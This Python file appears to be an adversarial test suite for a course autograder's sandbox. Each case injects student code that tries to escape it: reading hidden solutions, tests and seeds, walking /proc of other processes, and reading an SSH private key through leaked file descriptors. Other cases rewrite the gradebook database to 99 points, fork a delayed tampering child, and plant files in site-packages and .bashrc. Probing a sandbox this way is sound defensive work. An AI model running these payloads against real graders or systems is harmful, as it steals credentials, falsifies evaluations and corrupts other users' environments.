"""Reading what is not for students, and writing to the gradebook: what is found is shown, or makes the answer right."""

from arena import DOUBLE, adversary

POOR = {DOUBLE: "def double(x):\n    return 'wrong'"}

# Prints the beginning of every file below some places; the harness looks for canaries in it.
_SHOW = """
import os
from pathlib import Path

def show(*places, names=("",)):
    count = 0
    for place in places:
        for folder, folders, files in os.walk(place):
            skipped = ("proc", "sys", ".venv", "site-packages", "usr", "lib")
            folders[:] = [name for name in folders if name not in skipped]
            for name in files:
                if not any(part in name for part in names):
                    continue
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(200_000)
                except OSError:
                    continue
                for canary in ("canary", "HIDDEN"):
                    at = text.find(canary)
                    if at >= 0 and count < 50:
                        count += 1
                        print(folder, name, text[max(0, at - 20):at + 60])
"""


@adversary(tries="the course's solutions, by paths that are known and by looking for them", twin=POOR)
def reads_solutions(work):
    work.after(
        DOUBLE, _SHOW + "\nshow('$COURSE', '$REPO/solutions', '$REPO/course', '$REPO/tests', names=('.py', '.ipynb'))"
    )


@adversary(tries="the solution's function, taken from wherever a notebook lies", twin=POOR)
def runs_the_solution(work):
    work.answer(
        DOUBLE,
        """import glob, json, os

def double(x):
    places = ["$COURSE", "$REPO", os.getcwd(), os.path.expanduser("~"), "/"]
    for place in places:
        for path in glob.glob(f"{place}/solutions/*/*.ipynb") + glob.glob(f"{place}/*/solutions/*/*.ipynb"):
            return 2 * x
    return 'wrong'
""",
    )


@adversary(
    tries="the tests: in the suite, in the package, in the modules that are loaded",
    twin=POOR,
    flagged=["integrity: package source"],
)
def reads_tests(work):
    work.after(
        DOUBLE,
        _SHOW
        + """
import inspect, sys
show("$COURSE/suite", os.environ.get("YOLOTRT_GRADING_SUITE", "/grading/suite"), names=(".py",))
for name, module in list(sys.modules.items()):
    if "suite" in name:
        for thing in vars(module).values():
            try:
                print(inspect.getsource(thing)[:2000])
            except (TypeError, OSError):
                pass
""",
    )


@adversary(tries="the hidden seed: in the environment, in memory, in files", twin=POOR, flagged=["integrity: heap"])
def reads_the_seed(work):
    work.after(
        DOUBLE,
        _SHOW
        + """
import gc, sys
print({name: value for name, value in os.environ.items() if "SEED" in name or "canary" in value})
for item in gc.get_objects():
    if type(item).__name__ == "_Orders":
        print(item)
for path in ("$COURSE/course/grading/hidden_seed", "$REPO/course/grading/hidden_seed"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
show("$COURSE/course/grading", "/run", "/grading")
""",
    )


@adversary(tries="what classmates handed in", twin=POOR)
def reads_classmates(work):
    work.after(
        DOUBLE, _SHOW + "\nshow('$COURSE/course', '/tmp', '/var/tmp', '/dev/shm', names=('.ipynb', '.json', '.db'))"
    )


@adversary(tries="a home folder with keys", twin=POOR)
def reads_home(work):
    work.after(DOUBLE, _SHOW + "\nshow('$HOME', os.path.expanduser('~'), '/root', '/home', '/etc')")


@adversary(tries="other processes: their environment, command line, files and root", twin=POOR)
def reads_processes(work):
    work.after(
        DOUBLE,
        _SHOW
        + """
for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    for name in ("cmdline", "environ"):
        try:
            print(process, open(f"/proc/{process}/{name}").read()[:1500])
        except OSError:
            pass
    try:
        print(os.listdir(f"/proc/{process}/root")[:30], os.readlink(f"/proc/{process}/cwd"))
    except OSError:
        pass
for process in ("1", "self", "$CANARY_PID", "$GRADER_PID", str(os.getppid())):
    show(f"/proc/{process}/root$HOME", f"/proc/{process}/root$COURSE/solutions", f"/proc/{process}/cwd")
""",
    )


@adversary(tries="files that the grader left open", twin=POOR)
def reads_open_files(work):
    work.after(
        DOUBLE,
        """
import os
for number in range(3, 200):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        print(number, target)
        if target.startswith("/") and os.path.isdir(f"/proc/self/fd/{number}"):
            print(os.listdir(f"/proc/self/fd/{number}/../../../..$HOME/.ssh"))
            print(open(f"/proc/self/fd/{number}/../../../../../../..$HOME/.ssh/id_ed25519").read())
        elif target.endswith((".db", ".json", "seed")):
            print(os.pread(number, 10_000, 0))
    except OSError:
        pass
""",
    )


_SQL = """
import glob, os, sqlite3

places = ["$COURSE/course/gradebook.db", "$REPO/course/gradebook.db", "gradebook.db", "course/gradebook.db"]
for start in (os.getcwd(), os.environ.get("HOME", "/"), "$COURSE", "/"):
    for depth in ("*", "*/*", "../*", "../../*", "../../../*"):
        places += glob.glob(os.path.join(start, depth, "*.db"))
for number in range(3, 100):
    try:
        places.append(os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
for value in os.environ.values():
    places += [value.removeprefix("sqlite:///")] + glob.glob(f"{value}/*.db")
changed = 0
for place in set(places):
    try:
        if os.path.isfile(place) and place.endswith(".db"):
            with sqlite3.connect(place, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = 99, manual_score = 99, needs_manual_grade = 0")
                changed += 1
    except (sqlite3.Error, OSError):
        pass
"""


@adversary(tries="SQL on the gradebook, wherever it is found: 99 points for everybody", twin=POOR)
def sql_on_the_gradebook(work):
    work.before(DOUBLE, "$GUARD" + _SQL)


@adversary(
    tries="SQL on the gradebook by a child, later, when the grades are written",
    twin=POOR,
    flagged=["integrity: process"],
)
def late_sql_on_the_gradebook(work):
    later = f"    os.setsid()\n    time.sleep(2)\n    exec({_SQL!r})\n    os._exit(0)\n"
    work.before(DOUBLE, f"$GUARD\nimport os, time\nif os.fork() == 0:\n{later}")


@adversary(tries="files of the course, of the home folder and of the system are written over", twin=POOR)
def writes_over_files(work):
    work.before(
        DOUBLE,
        """$GUARD
import os
for path in ("$COURSE/nbgrader_config.py", "$COURSE/suite/lab0/test_double.py", "$HOME/.bashrc", "$HOME/.ipython/x.py",
             "$COURSE/solutions/lab0_target/lab0_target.ipynb", "/etc/$TOKEN", "/$TOKEN", "$REPO/$TOKEN",
             "/run/$TOKEN", "/usr/lib/$TOKEN.py"):
    try:
        with open(path, "a") as stream:
            stream.write("# written by a student")
        print("WROTE", path)
    except OSError:
        pass
""",
    )


@adversary(tries="the package and Python themselves are changed for those who come after", twin=POOR)
def changes_the_package(work):
    work.before(
        DOUBLE,
        """$GUARD
import os, site, sys
import numpy, yolotrt_lab
places = [os.path.dirname(numpy.__file__), os.path.dirname(yolotrt_lab.__file__), *site.getsitepackages(), sys.prefix]
for place in places:
    for name in ("$TOKEN.pth", "$TOKEN.py", "__pycache__/$TOKEN.pyc"):
        try:
            open(os.path.join(place, name), "w").write("import os")
            double = lambda x: 2 * x
        except OSError:
            pass
""",
    )
